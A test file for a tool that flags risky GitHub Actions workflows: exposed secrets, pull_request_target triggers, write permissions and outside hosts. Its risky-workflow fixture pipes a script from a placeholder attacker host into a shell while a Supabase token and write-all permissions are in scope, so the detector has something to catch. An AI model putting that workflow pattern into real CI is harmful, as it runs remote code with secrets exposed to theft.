import type { Check } from '../../domain/records';
import { ciReviewChecks, workflowFindings } from './ci-yaml-flags';

const RISKY = `name: preview
on:
  pull_request_target:
    types: [opened]
permissions: write-all
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: curl -sSL https://evil.example/install.sh | sh
        env:
          SUPABASE_ACCESS_TOKEN: \${{ secrets.SUPABASE_ACCESS_TOKEN }}
`;

function findings(content: string) {
  const result = workflowFindings(content);
  if ('error' in result) throw new Error(result.error);
  return result.findings;
}

function byName(checks: Check[], name: string): Check {
  return checks.find((c) => c.name === name)!;
}

describe('the CI YAML flagger', () => {
  it('finds the secrets, the pull_request_target trigger, write-all and the outside host of a risky workflow', () => {
    expect(findings(RISKY)).toEqual({
      secrets: ['SUPABASE_ACCESS_TOKEN'],
      inheritsSecrets: [],
      pullRequestTarget: true,
      writePermissions: ['write-all (whole workflow)'],
      outside: ['run: evil.example'],
    });
  });

  it('reads secrets in any spelling of the expression, in keys, in if: and the whole secrets context', () => {
    const f = findings(`on: push
jobs:
  a:
    if: secrets.IN_IF != ''
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ secrets['BRACKETED'] }} \${{secrets . SPACED}}"
      - run: echo '\${{ toJSON(secrets) }}'
      - run: echo "\${{ inputs.secrets_file }} secrets.NOT_IN_AN_EXPRESSION"
        with:
          "\${{ secrets.IN_A_KEY }}": x
`);
    expect(f.secrets.sort()).toEqual(['*', 'BRACKETED', 'IN_A_KEY', 'IN_IF', 'SPACED']);
  });

  it('finds secrets: inherit, job-level write scopes and outside reusable workflows, actions and images', () => {
    const f = findings(`on: [push, pull_request]
permissions:
  contents: read
jobs:
  reuse:
    uses: someone/workflows/.github/workflows/deploy.yml@main
    secrets: inherit
  local:
    uses: ./.github/workflows/local.yml
  build:
    runs-on: ubuntu-latest
    permissions:
      contents: write
      pull-requests: write
      issues: read
    container: node:20
    services:
      db:
        image: postgres:15
    steps:
      - uses: Actions/setup-node@v4
      - uses: supabase/setup-cli@v1
      - uses: docker://alpine:3
      - uses: tj-actions/changed-files@v41
      - uses: ./local-action
      - run: |
          wget http://downloads.example.org/tool.tgz
          echo done
`);
    expect(f.pullRequestTarget).toBe(false);
    expect(f.inheritsSecrets).toEqual(['job reuse → someone/workflows/.github/workflows/deploy.yml@main']);
    expect(f.writePermissions).toEqual(['contents: write (job build)', 'pull-requests: write (job build)']);
    expect(f.outside).toEqual([
      'uses: someone/workflows/.github/workflows/deploy.yml@main',
      'image: node:20',
      'image: postgres:15',
      'uses: docker://alpine:3',
      'uses: tj-actions/changed-files@v41',
      'run: downloads.example.org',
    ]);
  });

  it('sees write permissions brought in by an alias or a merge key', () => {
    const f = findings(`on: push
x-base: &base
  permissions: write-all
x-perms: &perms
  contents: write
jobs:
  a:
    <<: *base
    runs-on: ubuntu-latest
    steps: []
  b:
    permissions: *perms
    runs-on: ubuntu-latest
    steps: []
`);
    expect(f.writePermissions).toEqual(['write-all (job a)', 'contents: write (job b)']);
  });

  it('reads pull_request_target in the string and list spellings of on:', () => {
    expect(findings('on: pull_request_target\njobs: {}\n').pullRequestTarget).toBe(true);
    expect(findings('on: [push, pull_request_target]\njobs: {}\n').pullRequestTarget).toBe(true);
    expect(findings('on: [push]\njobs: {}\n').pullRequestTarget).toBe(false);
  });

  it('does not take a trigger named in a comment or a string for one', () => {
    expect(
      findings(
        '# on: pull_request_target\non: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo pull_request_target\n',
      ).pullRequestTarget,
    ).toBe(false);
  });

  it('gives a warning for each thing to look at and fails pull_request_target', () => {
    const checks = ciReviewChecks([{ path: '.github/workflows/preview.yml', content: RISKY }], []);
    expect(byName(checks, 'Secrets used')).toMatchObject({
      status: 'warn',
      detail: 'preview.yml: SUPABASE_ACCESS_TOKEN (not in pipeline.secrets)',
    });
    expect(byName(checks, 'pull_request_target trigger')).toMatchObject({ status: 'fail' });
    expect(byName(checks, 'Write permissions')).toMatchObject({
      status: 'warn',
      detail: 'preview.yml: write-all (whole workflow)',
    });
    expect(byName(checks, 'Outside hosts and actions').status).toBe('warn');
    expect(byName(checks, 'Outside hosts and actions').detail).toContain('preview.yml: run: evil.example');
    expect(byName(checks, '.github/workflows/preview.yml')).toMatchObject({
      status: 'pass',
      detail: '13 line(s)',
      code: RISKY.trimEnd(),
    });
  });

  it('passes every flag of a plain workflow and names a declared secret without a note', () => {
    const plain =
      'on: [pull_request]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ' +
      'actions/checkout@v4\n      - run: supabase db push\n        env:\n          TOKEN: ${{ secrets.SUPABASE_ACCESS_TOKEN }}\n';
    const checks = ciReviewChecks([{ path: '.github/workflows/ci.yml', content: plain }], ['SUPABASE_ACCESS_TOKEN']);
    expect(checks.map((c) => c.status)).toEqual(['warn', 'pass', 'pass', 'pass', 'pass']);
    expect(byName(checks, 'Secrets used').detail).toBe('ci.yml: SUPABASE_ACCESS_TOKEN');
  });

  it.each([
    ['on: push\njobs: [\n', /./],
    ['on: push\non: pull_request\njobs: {}\n', /unique|duplicate/i],
    ['on: push\njobs: {}\n---\non: push\njobs: {}\n', /2 YAML documents/],
    ['just text\n', /no `jobs` map/],
  ])('fails a file that is not a workflow: %j', (content, why) => {
    const [file] = ciReviewChecks([{ path: '.github/workflows/x.yml', content }], []).filter(
      (c) => c.name === '.github/workflows/x.yml',
    );
    expect(file!.status).toBe('fail');
    expect(file!.detail).toMatch(why);
  });

  it('shows the first lines of a long file and says the whole file is attached', () => {
    const long =
      `on: push\njobs:\n  a:\n    runs-on: x\n    ` +
      `steps:\n${Array.from({ length: 100 }, (_, i) => `      - run: echo ${i}`).join('\n')}\n`;
    const file = ciReviewChecks([{ path: '.github/workflows/long.yml', content: long }], []).find(
      (c) => c.code !== undefined,
    )!;
    expect(file.code!.split('\n')).toHaveLength(40);
    expect(file.detail).toBe('first 40 of 105 lines shown; the whole file is attached in the thread');
  });
});
